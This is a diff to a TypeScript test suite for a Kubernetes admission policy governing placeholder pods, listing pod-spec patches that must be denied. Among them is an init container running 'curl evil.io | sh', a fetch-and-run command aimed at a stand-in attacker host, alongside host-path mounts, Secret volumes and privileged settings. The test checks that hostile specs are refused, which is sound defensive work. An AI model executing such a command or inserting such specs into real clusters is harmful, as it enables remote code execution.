@@ -9,7 +9,8 @@ const NOT_ITS_OWN = /warmseats-deployments' .* denied request: it writes its own
 const WRONG_LABELS = /placeholders carry the labels of placeholderPodLabelSelector/
 const WRONG_IMAGE =
   /placeholders run placeholder\.image in one container, as helm knows it \(registry\.k8s\.io.*admissionPolicy\.images/
-const TOO_MUCH = /placeholders have no volumes, ServiceAccount, token, host fields/
+const TOO_MUCH = /placeholders have no ServiceAccount, token, host fields/
+const NOT_BROUGHT = /placeholders bring the users' images in containers that end at once/
 
 const strategic = 'application/strategic-merge-patch+json'
 
@@ -60,19 +61,37 @@ const BACKDOOR = {
 }
 const MANAGED = { ...POD_LABELS, 'app.kubernetes.io/managed-by': 'warmseats' }
 
+/** As a placeholder brings an image. */
+const BRINGING = {
+  name: 'image-1',
+  image: 'quay.io/jupyter/scipy-notebook:2026-10-05',
+  command: ['/bin/sh', '-c', 'exit 0'],
+  securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } },
+}
+const COPYING = ['/bin/cp', '/bin/busybox', '/exit/true']
+const MOUNTED = [{ name: 'exit', mountPath: '/exit' }]
+
 /** What a template must not become, by the patch of its pod's spec. */
 const SPECS: readonly (readonly [what: string, spec: object, refused?: RegExp])[] = [
   ["the hub's ServiceAccount", { serviceAccountName: 'hub' }],
   ['a token', { automountServiceAccountToken: true }],
   ['the network of the host', { hostNetwork: true }],
   ['the processes of the host', { hostPID: true }],
-  ['a folder of the host', { volumes: [{ name: 'host', hostPath: { path: '/' } }] }],
-  ['a Secret', { volumes: [{ name: 'hub', secret: { secretName: 'hub' } }] }],
+  ['a folder of the host', { volumes: [{ name: 'host', hostPath: { path: '/' } }] }, NOT_BROUGHT],
+  ['a Secret', { volumes: [{ name: 'hub', secret: { secretName: 'hub' } }] }, NOT_BROUGHT],
   ['a node', { nodeName: 'n1' }],
   ['another runtime', { runtimeClassName: 'runc' }],
   ['root', { securityContext: { runAsNonRoot: false } }],
   ['another priority', { priorityClassName: 'system-cluster-critical' }],
   ['another container first', { initContainers: [{ name: 'first', image: 'registry.k8s.io/pause:3.10' }] }],
+  [
+    'another command first',
+    { initContainers: [{ ...BRINGING, command: ['/bin/sh', '-c', 'curl evil.io | sh'] }] },
+    NOT_BROUGHT,
+  ],
+  ['a variable first', { initContainers: [{ ...BRINGING, env: [{ name: 'A', value: 'b' }] }] }, NOT_BROUGHT],
+  ['a program out of another image', { initContainers: [{ ...BRINGING, command: COPYING }] }, NOT_BROUGHT],
+  ['privileges first', { initContainers: [{ ...BRINGING, securityContext: { privileged: true } }] }],
   ['a second container', { containers: [{ name: 'second', image: 'registry.k8s.io/pause:3.10' }] }, WRONG_IMAGE],
   ['another image', { containers: [{ name: 'pause', image: 'evil/backdoor:1' }] }, WRONG_IMAGE],
 ]
@@ -151,6 +170,27 @@ export const workOnDeployments: readonly Work[] = [
     body: withSpec({
       containers: [{ name: 'pause', resources: { requests: { memory: '3Gi' } } }],
       tolerations: [{ operator: 'Exists' }],
+    }),
+    type: strategic,
+  },
+  {
+    what: 'images that it brings',
+    method: 'PATCH',
+    path: `${deployments}/user-placeholder`,
+    body: withSpec({
+      imagePullSecrets: [{ name: 'registry' }],
+      volumes: [{ name: 'exit', emptyDir: {} }],
+      initContainers: [
+        {
+          ...BRINGING,
+          name: 'exit',
+          image: 'docker.io/library/busybox:1.37.0-musl',
+          command: COPYING,
+          volumeMounts: MOUNTED,
+        },
+        { ...BRINGING, imagePullPolicy: 'Always' },
+        { ...BRINGING, name: 'image-2', image: 'distroless', command: ['/exit/true'], volumeMounts: MOUNTED },
+      ],
     }),
     type: strategic,
   },
